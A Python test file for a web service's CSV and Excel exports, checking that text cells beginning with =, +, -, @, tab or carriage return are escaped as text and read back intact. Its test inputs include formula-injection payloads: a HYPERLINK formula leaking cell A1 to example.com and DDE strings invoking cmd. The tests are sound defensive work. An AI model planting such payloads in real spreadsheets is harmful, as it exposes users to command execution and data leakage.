"""Formula injection: text that a spreadsheet would run is written so that it is not.

Every CSV and Excel file the service writes goes through ``common.cells``: a text cell
starting with =, +, -, @, a tab or a carriage return gets a leading quote in CSV, and in a
workbook is typed as text with Excel's quote prefix. Numbers, negative ones included, stay
numbers, and a returns export still reads back unchanged.
"""

from __future__ import annotations

import csv
import io

import polars as pl
import pytest

from joinedup.common.cells import escape_formula, escape_formulas, unescape_formula
from joinedup.returns.files import read_table
from joinedup.returns.models import DataValue
from joinedup.returns.spreadsheets import write_table

pytestmark = pytest.mark.django_db

ATTACKS = ["=HYPERLINK(\"http://example.com/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_could_be_a_formula_gets_a_quote_and_loses_it_when_read(text):
    assert escape_formula(text) == "'" + text
    assert unescape_formula(escape_formula(text)) == text


@pytest.mark.parametrize("value", ["HW 01", "", "a = b", "'quoted", -5, -0.25, 3, None])
def test_other_cells_are_left_as_they_are(value):
    assert escape_formula(value) == value


def test_text_already_starting_with_a_quote_reads_back_exactly():
    assert escape_formula("'=1") == "''=1"
    assert unescape_formula("''=1") == "'=1"


def _figure(note: str) -> DataValue:
    figure = DataValue.objects.filter(indicator__code="HW 01", state="approved").order_by(
        "pk").first()
    DataValue.objects.filter(pk=figure.pk).update(value=-5.5, note=note)
    figure.refresh_from_db()
    return figure


def _row(content: bytes, fmt: str, figure: DataValue) -> dict:
    table = read_table(content, f"export.{fmt}")
    return next(r for r in table.iter_rows(named=True)
                if (r["indicator"], r["area"], r["period"]) ==
                (figure.indicator.code, figure.area.code, figure.period))


@pytest.mark.parametrize("attack", ATTACKS[:4])
def test_the_returns_export_as_csv_quotes_a_formula_and_keeps_a_negative_number(
        attack, client_as):
    figure = _figure(attack)
    response = client_as("officer").get("/returns/export.csv", {"indicator": "HW 01"})
    content = b"".join(response.streaming_content) if response.streaming else response.content
    header, *rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    cells = dict(zip(header, next(r for r in rows if r[:3] == [
        "HW 01", figure.area.code, figure.period]), strict=True))
    assert (cells["value"], cells["note"]) == ("-5.5", "'" + attack)
    # and the export reads back as it was: the quote is taken off again
    assert (_row(content, "csv", figure)["note"], _row(content, "csv", figure)["value"]) == (
        attack, "-5.5")


def test_the_returns_export_as_excel_keeps_a_formula_as_text(client_as):
    from openpyxl import load_workbook

    attack = ATTACKS[0]
    figure = _figure(attack)
    response = client_as("officer").get("/returns/export.xlsx", {"indicator": "HW 01"})
    content = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(content))["values"]
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2)
               if (r[0].value, r[1].value, r[2].value) == ("HW 01", figure.area.code,
                                                           figure.period))
    note, value = row[header.index("note")], row[header.index("value")]
    assert (note.value, note.data_type, note.quotePrefix) == (attack, "s", True)
    assert (value.value, value.data_type) == (-5.5, "n")
    assert _row(content, "xlsx", figure)["note"] == attack


def test_the_round_template_and_the_spend_files_are_written_by_the_same_writer():
    """Spend lines, their template, and the returns template all go through write_table."""
    frame = pl.DataFrame({"partner": ["=1+1", "@x", "Council"], "amount": [-3.0, 2.5, -0.5]})
    csv = write_table(frame, "csv").decode("utf-8-sig").splitlines()
    assert csv == ["partner,amount", "'=1+1,-3", "'@x,2.5", "Council,-0.5"]
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(write_table(frame, "xlsx")))["values"]
    cells = [(c.value, c.data_type, c.quotePrefix) for c in sheet["A"][1:]]
    assert cells == [("=1+1", "s", True), ("@x", "s", True), ("Council", "s", False)]
    assert [c.value for c in sheet["B"][1:]] == [-3, 2.5, -0.5]


def test_the_pack_workbook_keeps_formulas_as_text():
    from openpyxl import Workbook, load_workbook

    from joinedup.reports.workbook import _table

    book = Workbook()
    _table(book, "Exceptions", ["What happened", "Amount"],
           [["=cmd|' /C calc'!A0", -12], ["-1+1", 4], ["Fine", -1.5]])
    out = io.BytesIO()
    book.save(out)
    sheet = load_workbook(io.BytesIO(out.getvalue()))["Exceptions"]
    assert [(c.value, c.data_type, c.quotePrefix) for c in sheet["A"][1:]] == [
        ("=cmd|' /C calc'!A0", "s", True), ("-1+1", "s", True), ("Fine", "s", False)]
    assert [(c.value, c.data_type) for c in sheet["B"][1:]] == [(-12, "n"), (4, "n"),
                                                               (-1.5, "n")]


def test_the_command_line_csv_files_quote_formulas():
    from joinedup.reports.management.commands import exceptions, plans
    from joinedup.risks.management.commands import risks

    plan = plans.as_csv([{"id": 1, "title": "=1+1", "outcome": "@o", "state": "draft",
                          "lead": "-x"}]).splitlines()
    assert plan[1] == "1,'=1+1,'@o,draft,'-x"
    risk = {name: "" for name in risks.REGISTER_FIELDS} | {"links": ["+a", "b"]}
    risk[risks.REGISTER_FIELDS[0]] = -3
    line = risks.as_csv([risk]).splitlines()[1].split(",")
    assert line[0] == "-3"
    assert line[risks.REGISTER_FIELDS.index("links")].startswith("'+a")
    summary = {name: "" for name in exceptions.SUMMARY_FIELDS}
    summary[exceptions.SUMMARY_FIELDS[1]] = "=HYPERLINK(1)"
    assert exceptions.as_csv([summary]).splitlines()[1].split(",")[1] == "'=HYPERLINK(1)"


def test_the_assessment_csv_quotes_text_and_keeps_numbers():
    frame = pl.DataFrame({"indicator": ["=1", "HW 01"], "value": [-1.0, 2.0]})
    assert escape_formulas(frame).write_csv().splitlines() == [
        "indicator,value", "'=1,-1.0", "HW 01,2.0"]
